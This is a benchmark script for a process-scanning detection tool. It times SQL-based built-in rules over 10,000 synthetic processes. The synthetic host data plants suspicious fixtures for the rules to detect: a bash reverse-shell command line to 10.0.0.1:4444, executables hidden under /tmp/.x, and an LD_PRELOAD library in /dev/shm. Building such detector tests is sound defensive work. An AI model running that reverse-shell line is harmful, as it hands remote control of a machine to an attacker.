// All built-in rules over a 10,000-process scan, run the way the agent runs them (sandbox process,
// read-only connection). Target (issue #2): under 100 ms in total.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fixtureProcess } from '../src/detect/sql/fixture-runner.ts';
import { loadRules } from '../src/detect/sql/load-rules.ts';
import { SqlDetector } from '../src/detect/sql/sql-detector.ts';
import { CURSOR_START } from '../src/detect/detector.ts';
import type { ProcessSnapshot } from '../src/normalize/process-snapshot.ts';
import { openStoreForWriting } from '../src/store/open-store.ts';
import { ScanWriter } from '../src/store/scan-writer.ts';
import { fmt, median } from './bench-utils.ts';

const N = Number(process.env['BENCH_PROCESSES'] ?? 10_000);
const ROUNDS = Number(process.env['BENCH_ROUNDS'] ?? 7);

/** A plausible host: many daemons and shells, a tree of parents, a few suspicious processes. */
function syntheticHost(n: number): ProcessSnapshot[] {
  const names = ['nginx', 'bash', 'sshd', 'postgres', 'java', 'python3', 'node', 'systemd', 'cron', 'sleep', 'containerd-shim', 'kworker/0:1'];
  const rows: ProcessSnapshot[] = [];
  for (let i = 0; i < n; i++) {
    const name = names[i % names.length]!;
    const kernel = name.startsWith('kworker');
    const exe = kernel ? null : i % 997 === 0 ? `/tmp/.x/${name}` : `/usr/bin/${name}`;
    rows.push(fixtureProcess({
      // Most processes are children of systemd (pid 9); every 40th runs under a shell (pid 3).
      pid: i + 2, ppid: i < 12 ? 1 : i % 40 === 0 ? 3 : 9, name, executable_path: exe,
      command_line: kernel ? '' : i % 1499 === 0 ? 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' : `${exe} --worker ${i}`,
      is_kernel_thread: kernel ? 1 : 0, file_exists: i % 1999 === 0 ? 0 : 1, user_id: i % 3 === 0 ? 0 : 1000,
      environment: i % 2503 === 0 ? { LD_PRELOAD: '/dev/shm/libx.so' } : { PATH: '/usr/bin:/bin' },
      cpu_usage: (i % 100) / 3,
    }, i) as unknown as ProcessSnapshot);
  }
  return rows;
}

const dir = mkdtempSync(join(tmpdir(), 'de-bench-rules-'));
const dbPath = join(dir, 'daemoneye.db');
const db = openStoreForWriting(dbPath);
const writer = new ScanWriter(db);
const now = Date.now();
const scanId = writer.write({ host: 'bench', startedAt: now, finishedAt: now, snapshots: syntheticHost(N), inaccessible: 0, vanished: 0 }, []);
const { rules, problems } = loadRules({ builtin: true, dirs: [] });
if (problems.length > 0) console.log(`(${problems.length} built-in rules rejected: ${problems.map((p) => p.message).join('; ')})`);
const detector = new SqlDetector({ dbPath, rules, timeoutMs: 10_000, maxRowsPerRule: 1000 });
const totals: number[] = [];
const perRule = new Map<string, number[]>();
let findings = 0;
for (let i = 0; i <= ROUNDS; i++) {
  const t0 = performance.now();
  const run = await detector.detect({ trigger: 'scan', scanId, heads: CURSOR_START, cursors: new Map() });
  const total = performance.now() - t0;
  if (i === 0) continue; // the first round compiles statements and warms the page cache
  totals.push(total);
  findings = run.findings.length;
  for (const o of run.outcomes) perRule.set(o.ruleId, [...(perRule.get(o.ruleId) ?? []), o.durationMs]);
}
await detector.close();
db.close();
rmSync(dir, { recursive: true, force: true });

const inSqlite = [...perRule.values()].reduce((s, xs) => s + median(xs), 0);
console.log(`# rules benchmark: ${rules.length} built-in rules over ${N} processes (${ROUNDS} rounds, medians)`);
console.log(`  all rules, end to end (sandbox IPC included): ${fmt(median(totals))} ms  (target < 100 ms)`);
console.log(`  time inside SQLite, summed over rules:       ${fmt(inSqlite)} ms`);
console.log(`  findings per round: ${findings}`);
const slowest = [...perRule.entries()].map(([id, xs]) => [id, median(xs)] as const).sort((a, b) => b[1] - a[1]).slice(0, 5);
console.log(`  slowest rules: ${slowest.map(([id, ms]) => `${id} ${fmt(ms, 2)} ms`).join(', ')}`);
